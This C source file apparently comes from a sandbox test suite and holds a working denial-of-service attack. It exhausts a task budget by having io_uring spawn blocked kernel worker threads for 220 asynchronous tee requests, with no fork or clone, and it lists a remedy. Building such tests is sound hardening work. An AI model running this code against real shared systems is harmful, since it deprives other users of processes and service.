// SPDX-License-Identifier: MIT
/*
 * io-uring-workers.c - a task bomb in which the attacker starts no task.
 *
 * Goal: fill the task budget without fork, vfork, clone or clone3.
 * Means: io_uring runs a request that would block in a worker thread of the kernel, which belongs
 * to the submitter and counts as one of its tasks. 220 tee(2) requests on an empty pipe block
 * 220 workers. IOSQE_ASYNC says: do not even try, go to a worker.
 */
#include "attacks/attack.h"

#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TASKS 220
#define SLOTS 256 /* the next power of two */

/* Map one of the ring's areas; MAP_FAILED as mmap(2). */
static void *area(int ring, size_t size, off_t which)
{
	return mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, which);
}

/* Queue TASKS requests: copy from the empty pipe `from` to the pipe `to`. */
static bool hand_in(int ring, const struct io_uring_params *p, int from, int to)
{
	char *queue = area(ring, p->sq_off.array + SLOTS * sizeof(uint32_t), IORING_OFF_SQ_RING);
	struct io_uring_sqe *entry = area(ring, SLOTS * sizeof(*entry), IORING_OFF_SQES);
	uint32_t *order, *tail;

	if (queue == MAP_FAILED || entry == MAP_FAILED)
		return false;
	order = (uint32_t *)(queue + p->sq_off.array);
	tail = (uint32_t *)(queue + p->sq_off.tail);
	for (uint32_t i = 0; i < TASKS; i++) {
		entry[i] = (struct io_uring_sqe){.opcode = IORING_OP_TEE,
						 .flags = IOSQE_ASYNC,
						 .fd = to,
						 .splice_fd_in = from,
						 .len = 1};
		order[i] = i;
	}
	__atomic_store_n(tail, TASKS, __ATOMIC_RELEASE);
	return syscall(SYS_io_uring_enter, ring, TASKS, 0, 0, NULL, 0) == TASKS;
}

static enum claim run(const struct brief *b)
{
	struct io_uring_params params = {0};
	int empty[2], out[2], ring;

	if (pipe(empty) || pipe(out))
		return failed("pipe");
	attempting(b);
	ring = (int)syscall(SYS_io_uring_setup, SLOTS, &params);
	if (ring < 0)
		return denied("io_uring_setup");
	if (!hand_in(ring, &params, empty[0], out[1]))
		return denied("io_uring_enter");
	return hold();
}

const struct attack attack = {
	.effect = "more tasks than the budget, none of them started by the attacker",
	.means = "io_uring worker threads: one for each request that blocks",
	.oracle = "census",
	.needs = NEED_IO_URING,
	.id = "FORK-14",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "deny io_uring_setup; RLIMIT_NPROC bounds the workers too",
	.run = run,
};
